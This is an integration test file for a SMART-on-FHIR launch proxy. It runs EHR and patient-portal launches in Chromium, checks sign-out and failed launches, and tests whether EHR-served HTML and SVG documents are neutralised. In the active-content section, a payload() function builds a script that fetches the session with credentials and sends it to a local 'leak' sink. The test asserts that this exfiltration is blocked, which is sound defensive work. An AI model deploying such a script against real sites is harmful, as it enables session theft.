import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startFixture, type Fixture } from '../integration/stack-fixture.js';
import { hasChromium, newContext, PAGE_SHOWS, releaseBrowser, screenshot, sharedBrowser } from './chromium.js';

/*
 * Launches clicked through in Chromium on the default stack (SameSite=Lax), signing out of one, and
 * what the proxy does with active content from the EHR in the browser that the first of them signed
 * in. One stack for the file, and one "Launch app" EHR launch shared by the checks on the launch and
 * the checks on active content: neither changes the session, and a launch in a browser costs more
 * than all of them together.
 */

let fixture: Fixture;
let browser: Browser;
let sink: Server;
let sinkUrl: string;
const sinkHits: string[] = [];

beforeAll(async () => {
  if (!hasChromium) return;
  sink = createServer((req, res) => {
    sinkHits.push(req.url ?? '');
    res.writeHead(204, { 'access-control-allow-origin': '*' }).end();
  });
  await new Promise<void>((resolve) => sink.listen(0, '127.0.0.1', resolve));
  sinkUrl = `http://127.0.0.1:${(sink.address() as AddressInfo).port}/leak`;
  fixture = await startFixture();
  browser = await sharedBrowser();
});
afterAll(async () => {
  await releaseBrowser(browser);
  await fixture?.close();
  await new Promise<void>((resolve) => (sink ? sink.close(() => resolve()) : resolve()));
});

/** A browser signed in through the sandbox EHR's "Launch app" link on patient 0, and the session id the demo app received. */
interface SignedIn {
  readonly context: BrowserContext;
  readonly app: Page;
  readonly sessionId: string;
}
let signedIn: Promise<SignedIn> | undefined;

/**
 * The file's one EHR launch, run by whichever test needs it first: "Launch app" on patient 0 in a
 * context of its own (downloads accepted, for the active-content checks), answered once the demo app
 * shows the patient. The context stays open until the file ends.
 */
function signIn(): Promise<SignedIn> {
  signedIn ??= (async () => {
    const context = await newContext(browser, { acceptDownloads: true });
    const app = await context.newPage();
    const patient = fixture.stack.sandbox!.patients[0]!;
    const sessionRequest = app.waitForRequest((request) => /\/sessions\/[A-Za-z0-9_-]{43}$/.test(new URL(request.url()).pathname));
    await app.goto(`${fixture.stack.sandbox!.url}/`);
    await app.locator('tr', { hasText: patient.name }).getByRole('link', { name: 'Launch app' }).click();
    await app.waitForURL(`${fixture.stack.appUrl}**`);
    const sessionId = new URL((await sessionRequest).url()).pathname.split('/').at(-1)!;
    // The page itself watches for the patient's name (no expect.poll outside a test).
    await app.waitForFunction((name) => document.querySelector('#patient-name')?.textContent === name, patient.name, { timeout: PAGE_SHOWS.timeout, polling: PAGE_SHOWS.interval });
    return { context, app, sessionId };
  })();
  return signedIn;
}

describe.skipIf(!hasChromium)('a person clicking through a launch in Chromium', () => {
  it('"Launch app" on a patient in the sandbox EHR opens the demo app on that patient, via a real EHR launch', async () => {
    const { context, app: page } = await signIn();
    const patient = fixture.stack.sandbox!.patients[0]!;
    await expect.poll(() => page.locator('#patient-name').textContent(), PAGE_SHOWS).toBe(patient.name);

    // The session id is taken from the fragment and removed from the address bar.
    expect(page.url()).toBe(fixture.stack.appUrl);
    expect(await page.locator('#patient-birth').textContent()).toBe(patient.birthDate);
    expect(await page.locator('#observation-rows tr').count()).toBe(10);
    expect(await page.locator('#context-list').textContent()).toContain('ehr');
    // The binding cookie is HttpOnly: invisible to the page's scripts.
    expect(await page.evaluate(() => document.cookie)).not.toContain('__Host-smart-launch');
    const cookies = await context.cookies(fixture.stack.apiUrl);
    expect(cookies.find((c) => c.name === '__Host-smart-launch')).toMatchObject({ httpOnly: true, secure: true, sameSite: 'Lax', path: '/' });
    await screenshot(page, 'ehr-launch');
  });

  it('the "Patient portal" link runs a standalone launch: the patient signs in and sees their own record; logout revokes, clears the tab and offers a new sign-in; the old session id opens nothing afterwards', async () => {
    const sandbox = fixture.stack.sandbox!;
    const context = await newContext(browser);
    const page = await context.newPage();
    const patient = sandbox.patients[1]!;

    await page.goto(`${sandbox.url}/`);
    await page.getByRole('link', { name: 'Patient portal' }).click();
    await page.getByRole('button', { name: new RegExp(`Sign in as ${patient.name.split(' ')[0]}`) }).click();
    await page.waitForURL(`${fixture.stack.appUrl}**`);
    await expect.poll(() => page.locator('#patient-name').textContent(), PAGE_SHOWS).toBe(patient.name);
    expect(await page.locator('#context-list').textContent()).toContain('standalone');
    // A patient-facing launch asks the app for its own patient banner.
    expect(await page.locator('#banner').getAttribute('class')).not.toContain('compact');
    await screenshot(page, 'standalone-launch');

    // Signing out ends the session: the grant is revoked, the app says so and keeps nothing of it in the tab.
    const id = await page.evaluate(() => (window as unknown as { demo: { session: { id: string } } }).demo.session.id);
    const revocations = sandbox.stats.revocations;
    await page.getByRole('button', { name: 'Sign out' }).click();
    await expect.poll(() => page.locator('#status').textContent(), PAGE_SHOWS).toContain('Signed out');
    expect(sandbox.stats.revocations).toBe(revocations + 1);
    expect(await page.locator('#patient-name').textContent()).toBe('');
    expect(await page.evaluate(() => Object.keys(sessionStorage).filter((k) => k.startsWith('smart-launch:')).length)).toBe(0);
    expect(await page.locator('#relaunch').getAttribute('href')).toBe(`${fixture.stack.apiUrl}/launch?iss=${encodeURIComponent(sandbox.fhirBaseUrl)}`);
    await screenshot(page, 'sdk-logout');
    // The same id, put back in the fragment, is a clear "session ended" with the way forward.
    await page.goto('about:blank');
    await page.goto(`${fixture.stack.appUrl}#session=${id}`);
    await expect.poll(() => page.locator('#ended').isVisible(), PAGE_SHOWS).toBe(true);
    expect(page.url()).toBe(fixture.stack.appUrl);
    await context.close();
  });

  it('a failed launch shows a readable page with a code and a way to start again', async () => {
    const context = await newContext(browser);
    const page = await context.newPage();

    await page.goto(`${fixture.stack.apiUrl}/launch`);
    await page.getByRole('button', { name: 'Cancel' }).click();

    await expect.poll(() => page.locator('h1').textContent(), PAGE_SHOWS).toBe('Sign-in could not be completed');
    expect(await page.locator('body').textContent()).toContain('AUTHORIZATION_DENIED');
    await page.getByRole('link', { name: 'Start again' }).click();
    await expect.poll(() => page.locator('h1').textContent(), PAGE_SHOWS).toBe('Sandbox EHR sign-in');
    await context.close();
  });
});

/*
 * A hostile (or merely careless) EHR serves a Binary as HTML or SVG with a script in it. An app opens
 * it as `attachment.url` through the proxy, so the document would live on the API's origin, where a
 * same-origin fetch carries the binding cookie and the session id is in the document's own URL. The
 * proxy must keep it from reading anything. The tests open content in the signed-in browser; none
 * changes the session.
 */

/** The attacker's script: the first statement marks that it ran; then it reads the session and sends it out. */
function payload(): string {
  return `document.title='ran';fetch(location.pathname.replace(/\\/fhir\\/.*$/,''),{credentials:'include'}).then(r=>r.text()).then(t=>{document.title='read:'+t.length;return fetch(${JSON.stringify(sinkUrl)}+'?'+encodeURIComponent(t.slice(0,200)),{mode:'no-cors'})}).catch(e=>{document.title='failed:'+e})`;
}

const HOSTILE = {
  html: { contentType: 'text/html; charset=utf-8', body: () => `<!doctype html><html><head><title>note</title></head><body><p>Clinical note</p><script>${payload()}</script></body></html>` },
  svg: { contentType: 'image/svg+xml', body: () => `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><title>note</title><script>${payload()}</script></svg>` },
} as const;

describe.skipIf(!hasChromium)('active content from the EHR, opened through the proxy in Chromium', () => {
  it.each(['html', 'svg'] as const)('a %s Binary cannot run script or read the session on the API origin', async (kind) => {
    const { context, app, sessionId } = await signIn();
    const hostile = HOSTILE[kind];
    fixture.stack.sandbox!.faults.fhirAnswer = { status: 200, headers: { 'content-type': hostile.contentType }, body: hostile.body(), pathPrefix: 'Binary/' };
    try {
      const url = `${fixture.stack.apiUrl}/sessions/${sessionId}/fhir/Binary/hostile-${kind}`;
      const viewer = await context.newPage();
      const download = viewer.waitForEvent('download', { timeout: 10_000 }).then((d) => d, () => undefined);
      const navigation = await viewer.goto(url).then(
        (response) => ({ response, error: undefined }),
        (error: unknown) => ({ response: undefined, error: String(error) }),
      );
      if (navigation.response) {
        // Rendered after all: it must be inert and on an opaque origin.
        await viewer.waitForLoadState('load');
        expect(await viewer.title()).toBe('note');
        expect(await viewer.evaluate(() => window.origin)).toBe('null');
        const headers = navigation.response.headers();
        expect(headers['content-security-policy']).toMatch(/^sandbox/);
      } else {
        // The browser was told to download it, never to render it on the API origin.
        expect(navigation.error).toMatch(/Download is starting|ERR_ABORTED/);
        const file = await download;
        expect(file).toBeDefined();
        await file?.cancel();
      }
      // Whatever the browser did, the page it came from still shows the app, and nothing reached the sink.
      expect(await app.locator('#patient-name').textContent()).toBe(fixture.stack.sandbox!.patients[0]!.name);
      expect(sinkHits).toEqual([]);
      await viewer.close();
    } finally {
      fixture.stack.sandbox!.faults.fhirAnswer = undefined;
    }
  });

  it('the same Binary fetched by the app (as FHIR clients do) still arrives byte for byte, marked inert', async () => {
    const { app, sessionId } = await signIn();
    const body = HOSTILE.html.body();
    fixture.stack.sandbox!.faults.fhirAnswer = { status: 200, headers: { 'content-type': HOSTILE.html.contentType }, body, pathPrefix: 'Binary/' };
    try {
      const fetched = await app.evaluate(async (url) => {
        const response = await fetch(url, { credentials: 'include' });
        return { status: response.status, text: await response.text(), disposition: response.headers.get('content-disposition'), cache: response.headers.get('cache-control') };
      }, `${fixture.stack.apiUrl}/sessions/${sessionId}/fhir/Binary/hostile-html`);
      expect(fetched).toEqual({ status: 200, text: body, disposition: 'attachment', cache: 'no-store' });
    } finally {
      fixture.stack.sandbox!.faults.fhirAnswer = undefined;
    }
  });
});
